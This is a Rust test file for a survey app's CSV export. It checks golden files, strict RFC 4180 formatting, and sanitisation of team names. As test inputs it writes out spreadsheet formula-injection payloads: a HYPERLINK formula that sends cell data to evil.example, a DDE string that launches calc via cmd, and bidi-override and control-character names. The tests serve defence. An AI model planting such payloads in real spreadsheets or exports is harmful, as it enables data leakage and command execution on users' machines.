//! The CSV export (src/domain/csv.rs): golden files for the six golden sets, compared byte for
//! byte, and a small RFC 4180 reader that reads the answers (counts per question, issue 21)
//! back, hostile team names included.

mod common;

use common::golden;
use samenwerkingsscan::domain::counts::{QuestionCounts, TeamCounts, QUESTION_COUNT};
use samenwerkingsscan::domain::csv::{answers_csv, summary_csv};
use samenwerkingsscan::domain::instrument::{RoleGroup, DIMENSIONS};
use samenwerkingsscan::domain::response::{Response, TeamName};
use samenwerkingsscan::domain::team::summarise;

const SIX: [&str; 6] = [
    "woerden", "less", "fewnow", "boundary", "dontknow", "middle",
];

fn six() -> Vec<Response> {
    SIX.iter().map(|name| golden(name)).collect()
}

fn oost() -> TeamName {
    TeamName::new("Wijkteam Oost").unwrap()
}

/// Compares with the committed file; `UPDATE_GOLDEN=1` writes it first.
fn check_golden(file: &str, made: &str) {
    let path = format!("{}/tests/golden/{file}", env!("CARGO_MANIFEST_DIR"));
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, made).unwrap();
    }
    let committed = std::fs::read(&path).unwrap_or_default();
    assert!(
        committed == made.as_bytes(),
        "tests/golden/{file} is out of date (or its line endings were changed):\n{made}"
    );
}

#[test]
fn golden_answers_of_the_six() {
    check_golden(
        "answers_six.csv",
        &answers_csv(&TeamCounts::from_responses(&six()), Some(&oost())),
    );
}

#[test]
fn golden_summary_of_the_six() {
    check_golden(
        "summary_six.csv",
        &summary_csv(&summarise(&six()), Some(&oost())),
    );
}

/// Reads RFC 4180 strictly: a byte-order mark first, CRLF after every record, quotes only
/// around a whole field, `""` inside them; anything else fails the test.
fn parse(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{FEFF}').expect("a byte-order mark");
    assert!(text.ends_with("\r\n"), "the last record ends with CRLF");
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' => {
                assert!(field.is_empty(), "a quote inside an unquoted field");
                loop {
                    match chars.next().expect("a closing quote") {
                        '"' if chars.peek() == Some(&'"') => {
                            chars.next();
                            field.push('"');
                        }
                        '"' => break,
                        other => field.push(other),
                    }
                }
                assert!(
                    matches!(chars.peek(), Some(',' | '\r')),
                    "a quoted field ends at a comma or CRLF"
                );
            }
            ',' => record.push(std::mem::take(&mut field)),
            '\r' => {
                assert_eq!(chars.next(), Some('\n'), "CR only as part of CRLF");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            '\n' => panic!("a bare LF outside quotes"),
            other => field.push(other),
        }
    }
    records
}

/// The counts the records hold, read back: the whole team and each role group, in the file's
/// order, checked against the file's own columns on the way.
fn counts_of(records: &[Vec<String>]) -> (QuestionCounts, Vec<(RoleGroup, QuestionCounts)>) {
    assert_eq!(
        records[0],
        [
            "team",
            "rolgroep",
            "nummer",
            "onderdeel",
            "vraag",
            "aantal",
            "weet_ik_niet",
            "antwoord_1",
            "antwoord_2",
            "antwoord_3",
            "antwoord_4",
            "antwoord_5"
        ]
    );
    let parts: Vec<&[Vec<String>]> = records[1..].chunks(QUESTION_COUNT).collect();
    let mut read = parts.iter().map(|part| {
        assert_eq!(part.len(), QUESTION_COUNT);
        let mut questions = [[0u32; 6]; QUESTION_COUNT];
        for (q, record) in part.iter().enumerate() {
            assert_eq!(record.len(), 12);
            let index = q % 14;
            assert_eq!(record[1], part[0][1], "one group per part");
            assert_eq!(record[2], (index + 1).to_string());
            assert_eq!(record[3], DIMENSIONS[index].name.nl);
            assert_eq!(record[4], if q < 14 { "nu" } else { "gewenst" });
            for (c, field) in questions[q].iter_mut().zip(&record[6..]) {
                *c = field.parse().expect("a count");
            }
            let total: u32 = questions[q].iter().sum();
            assert_eq!(record[5], total.to_string(), "aantal is the part's size");
        }
        let group = RoleGroup::ALL
            .into_iter()
            .find(|r| r.label().nl == part[0][1]);
        assert!(group.is_some() || part[0][1].is_empty());
        (
            group,
            QuestionCounts::from_questions(questions).expect("equal totals"),
        )
    });
    let (whole, team) = read.next().expect("the whole team first");
    assert_eq!(whole, None);
    let groups = read.map(|(g, c)| (g.expect("a role group"), c)).collect();
    (team, groups)
}

/// The team and its groups, as [`counts_of`] reads them.
fn parts(counts: &TeamCounts) -> (QuestionCounts, Vec<(RoleGroup, QuestionCounts)>) {
    (counts.team().clone(), counts.groups().to_vec())
}

/// What the `team` column shows for a name: the name with control characters (line breaks)
/// and bidi controls replaced by U+FFFD, and a `'` before a formula start.
fn shown(name: &str) -> String {
    let name: String = name
        .chars()
        .map(|c| {
            if c.is_control() || ('\u{202A}'..='\u{202E}').contains(&c) {
                '\u{FFFD}'
            } else {
                c
            }
        })
        .collect();
    if name.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
        format!("'{name}")
    } else {
        name
    }
}

#[test]
fn header_bom_and_line_ends() {
    let six_counts = TeamCounts::from_responses(&six());
    let csv = answers_csv(&six_counts, None);
    assert!(csv.starts_with("\u{FEFF}team,rolgroep,nummer,onderdeel,vraag,aantal,"));
    assert!(csv.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF]));
    let lines = 1 + 28 * (1 + six_counts.groups().len());
    assert_eq!(csv.matches("\r\n").count(), lines);
    assert_eq!(csv.matches('\n').count(), lines);
    let records = parse(&csv);
    assert_eq!(counts_of(&records), parts(&six_counts));
    // No team: an empty first column.
    assert!(records[1..].iter().all(|r| r[0].is_empty()));

    let summary = summary_csv(&summarise(&six()), None);
    assert!(summary.starts_with('\u{FEFF}'));
    assert_eq!(summary.matches("\r\n").count(), 15);
    assert_eq!(summary.matches('\n').count(), 15);
    // An empty team: the header and the fourteen dimensions still.
    let empty = summary_csv(&summarise(&[]), None);
    let records = parse(&empty);
    assert_eq!(records.len(), 15);
    assert_eq!(
        records[1],
        ["", "1", "Systemen", "0", "", "", "", "nee", "0", "", "", "", "nee"]
    );
    // Nobody: the header and 28 records of zeros (the app offers no file below 3).
    let records = parse(&answers_csv(&TeamCounts::default(), None));
    assert_eq!(records.len(), 29);
    assert!(records[1..].iter().all(|r| r[5..].iter().all(|f| f == "0")));
}

#[test]
fn answers_read_back_as_the_counts_with_hostile_names() {
    let names = [
        "Wijkteam Oost",
        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik hier\")",
        "+31 6 1234 5678",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝1+1",
        "Team, \"de beste\"\r\nregel twee\nen drie",
        "'s-Hertogenbosch \"Noord\"",
        "👩‍⚕️ Zorg & Welzijn 🏘️",
        "فريق الحي \u{202E}evil\u{202C} שלום",
        "a",
    ];
    let mut rng = common::Rng::new(0xC5F);
    for (case, name) in names.iter().enumerate() {
        let name = TeamName::new(name).unwrap();
        for round in 0..40 {
            let count = rng.below(40) as usize;
            let mut team: Vec<Response> = (0..count).map(|_| rng.response()).collect();
            if round == 0 {
                team.extend(six());
                team.push(golden("middle")); // two people may answer identically
            }
            for r in team.iter_mut() {
                r.role = RoleGroup::from_id(rng.below(3) as u8);
            }
            let counts = TeamCounts::from_responses(&team);
            let csv = answers_csv(&counts, Some(&name));
            let records = parse(&csv);
            // Role groups only as the team may share them (issue 14; tests/csv_dialects.rs).
            assert_eq!(counts_of(&records), parts(&counts), "case {case}: {csv}");
            for record in &records[1..] {
                assert_eq!(record[0], shown(name.as_str()), "case {case}");
            }
            // The order of the input does not show.
            team.reverse();
            assert_eq!(
                answers_csv(&TeamCounts::from_responses(&team), Some(&name)),
                csv
            );
        }
    }
}

#[test]
fn summary_reads_back_as_the_team_summary() {
    let mut rng = common::Rng::new(0x5A4);
    let name = TeamName::new("=1+1, \"x\"").unwrap();
    for case in 0..300 {
        let team: Vec<Response> = (0..rng.below(30)).map(|_| rng.response()).collect();
        let summary = summarise(&team);
        let records = parse(&summary_csv(&summary, Some(&name)));
        assert_eq!(records.len(), 15);
        for (record, d) in records[1..].iter().zip(&summary.team.dimensions) {
            assert_eq!(record.len(), 13);
            assert_eq!(record[0], "'=1+1, \"x\"");
            assert_eq!(record[1], d.id.to_string());
            assert_eq!(record[2], DIMENSIONS[usize::from(d.id) - 1].name.nl);
            for (fields, h) in [(&record[3..8], &d.now), (&record[8..13], &d.desired)] {
                let opt = |v: Option<u8>| v.map_or(String::new(), |v| v.to_string());
                assert_eq!(fields[0], h.answered().to_string(), "case {case}");
                assert_eq!(
                    fields[1],
                    h.median().map_or(String::new(), |m| m.to_string()),
                    "case {case}"
                );
                assert_eq!(fields[2], opt(h.min()));
                assert_eq!(fields[3], opt(h.max()));
                assert_eq!(fields[4], if h.difference_of_view() { "ja" } else { "nee" });
            }
        }
    }
}

#[test]
fn summary_agrees_with_the_committed_team_summary() {
    // tests/golden/team_six.txt: "id  n median min max flag  n median min max flag".
    let team = include_str!("golden/team_six.txt");
    let records = parse(&summary_csv(&summarise(&six()), Some(&oost())));
    let lines: Vec<&str> = team
        .lines()
        .filter(|l| l.starts_with(|c: char| c.is_ascii_digit()))
        .collect();
    assert_eq!(lines.len(), 14);
    for (line, record) in lines.iter().zip(&records[1..]) {
        let f: Vec<&str> = line.split_whitespace().collect();
        let ours = |i: usize| match record[i].as_str() {
            "" => "-".to_owned(),
            "ja" => "flag".to_owned(),
            "nee" => "-".to_owned(),
            v => v.to_owned(),
        };
        let expected: Vec<String> = f.iter().map(|s| s.to_string()).collect();
        let got: Vec<String> = [1, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]
            .into_iter()
            .map(ours)
            .collect();
        assert_eq!(got, expected, "{line}");
    }
}

/// Issue 21's audit: a team name from a pasted link may hold NUL, line breaks and bidi
/// overrides; none of them reaches a CSV file, in either dialect, answers or summary.
#[test]
fn a_nul_in_a_team_name_from_a_link_never_reaches_a_csv() {
    use samenwerkingsscan::domain::collect::collect;
    use samenwerkingsscan::domain::csv::{answers_csv_in, summary_csv_in, Dialect};
    use samenwerkingsscan::domain::link::encode_response;
    let hostile = TeamName::new("Team\u{0}Oost\r\n\u{202E}kooL\u{2028}x").unwrap();
    let text = six()
        .iter()
        .map(|r| encode_response(r, Some(&hostile)))
        .collect::<Vec<_>>()
        .join("\n");
    let c = collect(&text);
    assert_eq!(
        c.team_name.as_ref(),
        Some(&hostile),
        "the link carries it as it is"
    );
    for dialect in Dialect::ALL {
        let files = [
            answers_csv_in(&c.counts(), c.team_name.as_ref(), dialect),
            summary_csv_in(&summarise(&six()), c.team_name.as_ref(), dialect),
        ];
        for file in files {
            for bad in ['\u{0}', '\u{202E}', '\u{2028}'] {
                assert!(!file.contains(bad), "{bad:?} in {dialect:?}");
            }
            // Line breaks only as record ends: as many CRLFs as LFs, one per record.
            assert_eq!(file.matches("\r\n").count(), file.matches('\n').count());
            assert!(file.contains("Team\u{FFFD}Oost\u{FFFD}\u{FFFD}\u{FFFD}kooL\u{FFFD}x"));
        }
    }
}
